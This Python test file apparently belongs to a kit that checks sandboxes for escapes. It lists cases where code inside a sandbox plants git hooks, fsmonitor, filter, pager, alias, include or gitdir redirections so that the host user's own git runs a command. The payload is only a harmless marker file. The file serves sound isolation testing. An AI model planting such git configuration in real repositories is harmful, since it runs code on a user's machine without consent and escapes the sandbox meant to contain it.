"""Escapes by git: leave something behind that the user's own git runs. The proof is that git, on the host."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from escape_kit import Case, Ground, Ran

_EVIL = """
evil() { mkdir -p "$1"; printf '[core]\\n\\tfsmonitor = "touch %s; false"\\n' "$MARK" >>"$1/config"; }
script() { printf '#!/bin/sh\\ntouch %s\\n' "$MARK" >"$1"; chmod +x "$1"; }
git config --global user.name A; git config --global user.email a@b.c; git config --global init.defaultBranch main
"""


def _host_git(ground: Ground, *args: str, cwd: Path | None = None) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(ground.base), "GIT_CONFIG_NOSYSTEM": "1", "GIT_PAGER": "cat"}
    for who in ("AUTHOR", "COMMITTER"):
        env |= {f"GIT_{who}_NAME": "U", f"GIT_{who}_EMAIL": "u@example.com"}
    subprocess.run(
        ["git", *args], cwd=cwd or ground.here, env=env, capture_output=True, stdin=subprocess.DEVNULL, timeout=60
    )


def _repo(ground: Ground) -> None:
    _host_git(ground, "init", "-q")
    (ground.here / "a.txt").write_text("one\n")
    _host_git(ground, "add", "a.txt")
    _host_git(ground, "commit", "-qm", "first")


def _use(ground: Ground, _: Ran) -> str:
    """What a user does next, here and in each folder."""
    for folder in (
        ground.here,
        *(path for path in sorted(ground.here.rglob("*")) if path.is_dir() and not path.is_symlink()),
    ):
        if ".git" in folder.relative_to(ground.here).parts:
            continue
        if (folder / "a.txt").is_file():
            (folder / "a.txt").write_text("changed\n")
        for args in (("status",), ("diff",), ("checkout", "-q", "-B", "other"), ("stash",)):
            _host_git(ground, *args, cwd=folder)
        if ground.mark.exists():
            return f"the user's git ran it, in {folder.name}"
    return ""


def _case(name: str, script: str, before=_repo, **more) -> Case:
    return Case(f"git-{name}", "git", "sh", _EVIL + script, before=before, proof=_use, own=True, **more)


CASES = (
    _case("config", 'evil .git; git config core.fsmonitor "touch $MARK"; echo >>.git/config'),
    _case("hook", "script .git/hooks/post-checkout; script .git/hooks/post-index-change"),
    _case(
        "hooks-path",
        """
        mkdir h
        script h/post-checkout
        script h/post-index-change
        git config core.hooksPath h
        evil .git
        """,
    ),
    _case("rebuilt", "cp -r .git g; mv .git old; rm -rf .git; git init -q; evil .git"),
    _case("gitfile", "cp -r .git moved; evil moved; mv .git gone; echo 'gitdir: moved' >.git"),
    _case("link", "cp -r .git moved; evil moved; rm -rf .git; ln -s moved .git"),
    _case("commondir", "cp -r .git x; evil x; echo ../x >.git/commondir"),
    _case("config-worktree", "git config extensions.worktreeConfig true; evil w; cp w/config .git/config.worktree"),
    _case(
        "gitlink",
        """
        git init -q sub
        cd sub
        echo x >a.txt
        git add a.txt
        git commit -qm x
        cd ..
        git add sub
        evil sub/.git
        """,
    ),
    _case(
        "module",
        """
        git init -q sub
        (cd sub; echo x >b; git add b; git commit -qm x)
        git add sub
        mkdir -p .git/modules
        mv sub/.git .git/modules/sub
        echo 'gitdir: ../.git/modules/sub' >sub/.git
        evil .git/modules/sub
        """,
    ),
    _case(
        "bare",
        r"""
        git init -q --bare docs
        printf "[core]\n\tbare = false\n\tworktree = .\n" >>docs/config
        evil docs
        """,
    ),
    _case("fresh", "git init -q; echo one >a.txt; git add a.txt; git commit -qm x; evil .git", before=None),
    _case(
        "filter",
        """
        echo "* filter=x" >.gitattributes
        mkdir -p .git/info
        echo "* filter=x" >.git/info/attributes
        git config filter.x.clean "touch $MARK; cat"
        """,
    ),
    _case(
        "include",
        r"""
        evil inc
        git config include.path ../inc/config
        printf "[include]\n\tpath = ../inc/config\n" >>.git/config
        """,
    ),
    _case(
        "alias-and-pager",
        """
        git config core.pager "touch $MARK"
        git config alias.status "!touch $MARK"
        git config diff.external "touch $MARK"
        """,
    ),
    _case(
        "worktree",
        """
        git worktree add -q wt
        evil .git/worktrees/wt
        echo ../../../x >.git/worktrees/wt/commondir
        cp -r .git x
        evil x
        """,
    ),
)
